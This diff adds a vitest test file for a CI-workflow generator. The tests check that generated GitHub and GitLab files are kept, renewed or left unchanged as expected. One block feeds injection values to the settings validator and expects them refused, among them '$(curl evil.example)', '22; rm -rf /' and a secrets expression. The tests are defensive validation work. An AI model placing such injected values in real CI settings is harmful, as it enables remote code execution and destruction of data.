@@ -1,0 +1,115 @@
+import { assert, constantFrom, property, string } from "fast-check";
+import { describe, expect, it } from "vitest";
+import { memoryTree } from "../../../src/lib/index.ts";
+import { CiSettingInvalid, type CiSettings, ciTasks, planCi, writtenCi } from "../../../src/project/index.ts";
+import { everyChoice, everyForge, settingsFor } from "./ci-world.ts";
+
+async function written(files: Readonly<Record<string, string>>, settings: CiSettings) {
+  const planned = await planCi(memoryTree(files), settings);
+  const contents = planned.flatMap(({ path, content }) => (content === undefined ? [] : [[path, content] as const]));
+  return { ...files, ...Object.fromEntries(contents) };
+}
+
+async function statesIn(files: Readonly<Record<string, string>>, settings: CiSettings) {
+  const planned = await planCi(memoryTree(files), settings);
+  return Object.fromEntries(planned.map(({ path, state }) => [path, state]));
+}
+
+const up = ".github/workflows/groundwork-up.yml";
+
+describe.each(everyForge)("the files for %s", (forge) => {
+  it.each(everyChoice)("are the same when they are written again with $cloud", async (choice) => {
+    const settings = settingsFor(forge, choice);
+    expect(new Set(Object.values(await statesIn(await written({}, settings), settings)))).toEqual(new Set(["same"]));
+  });
+
+  it("say which command writes them, and that they were not edited", async () => {
+    const files = Object.values(await written({}, settingsFor(forge))).map(writtenCi);
+    const own = files.filter((each) => each !== undefined);
+    expect(own.length).toBeGreaterThan(0);
+    for (const each of own)
+      expect(each).toEqual({ flags: expect.stringContaining(`--forge ${forge}`), isEdited: false });
+  });
+
+  it("have something to set at the forge", () => {
+    expect(ciTasks(settingsFor(forge)).map(({ subject }) => subject)).toContain("protection");
+  });
+});
+
+describe("a file for a CI that is there already", () => {
+  const before = settingsFor("github");
+  const after = settingsFor("github", { node: "24" });
+
+  it("is written anew with other flags when it was not edited", async () => {
+    const files = await written({}, before);
+    expect(new Set(Object.values(await statesIn(files, after)))).toEqual(new Set(["renewed"]));
+    expect((await written(files, after))[up as never]).toContain('node-version: "24"');
+  });
+
+  it("is kept when a person edited one line of it", async () => {
+    const files = await written({}, before);
+    const edited = { ...files, [up]: `${files[up as never]}# Ours.\n` };
+    expect(await statesIn(edited, after)).toMatchObject({ [up]: "kept" });
+    expect(await statesIn(edited, before)).toMatchObject({ [up]: "kept" });
+  });
+
+  it("is kept when a person wrote it", async () => {
+    expect(await statesIn({ [up]: "on: push\n" }, before)).toMatchObject({ [up]: "kept" });
+  });
+
+  it("is as it was written where Git gave it other line ends", async () => {
+    const files = await written({}, before);
+    const windows = { ...files, [up]: String(files[up as never]).replaceAll("\n", "\r\n") };
+    expect(writtenCi(windows[up])?.isEdited).toBe(false);
+  });
+});
+
+describe("a project's own .gitlab-ci.yml", () => {
+  const path = ".gitlab-ci.yml";
+
+  it("is kept, and the line that includes the jobs is named", async () => {
+    const planned = await planCi(memoryTree({ [path]: "stages: [build]\n" }), settingsFor("gitlab"));
+    expect(planned.find((file) => file.path === path)).toEqual({
+      path,
+      state: "kept",
+      missing: "local: /.gitlab/groundwork.yml",
+    });
+  });
+
+  it("is well when it includes the jobs among others", async () => {
+    const own = "include:\n  - template: x.yml\n  - local: /.gitlab/groundwork.yml\n";
+    expect(await statesIn({ [path]: own }, settingsFor("gitlab"))).toMatchObject({ [path]: "same" });
+  });
+});
+
+describe("a setting that stands in the files", () => {
+  it.each([
+    ["branch", "main\n  steal: true"],
+    ["branch", "${{ secrets.TOKEN }}"],
+    ["branch", "main, '*'"],
+    ["branch", "$(curl evil.example)"],
+    ["node", "22; rm -rf /"],
+    ["runner", "a b"],
+    ["upRunner", "[self-hosted]"],
+    ["image", "node:22 # x"],
+  ] as const)("is refused as %s when it is %j", (name, value) => {
+    expect(() => settingsFor("github", { [name]: value })).toThrow(CiSettingInvalid);
+  });
+
+  it("is refused, or stands in the files as a word that means nothing else", () => {
+    const settings = constantFrom("branch", "node", "runner", "upRunner", "image");
+    const isSafe = (name: string, value: string) => {
+      try {
+        settingsFor("github", { [name]: value });
+        return /^[\w./:@-]+$/.test(value);
+      } catch (thrown) {
+        return thrown instanceof CiSettingInvalid;
+      }
+    };
+    assert(
+      property(settings, string(), (name, value) => {
+        expect(isSafe(name, value)).toBe(true);
+      }),
+    );
+  });
+});
